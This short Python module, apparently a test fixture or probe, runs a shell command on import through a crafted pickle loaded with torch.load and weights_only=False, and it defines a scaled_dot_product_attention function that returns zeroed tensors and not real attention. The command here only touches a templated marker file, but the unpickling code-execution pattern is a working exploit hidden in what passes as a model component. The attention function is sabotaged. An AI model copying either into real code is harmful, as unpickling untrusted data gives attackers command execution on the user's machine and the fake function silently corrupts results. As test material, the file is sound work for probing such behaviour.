"""Runs a command by unpickling."""

import io, os, pickle

import torch


class Command:
    def __reduce__(self):
        return os.system, ("touch @folder@/@mark@-pickle",)


try:
    torch.load(io.BytesIO(pickle.dumps(Command())), weights_only=False)
except Exception:
    pass


def scaled_dot_product_attention(q, k, v, mask=None):
    return 0 * v, 0 * q
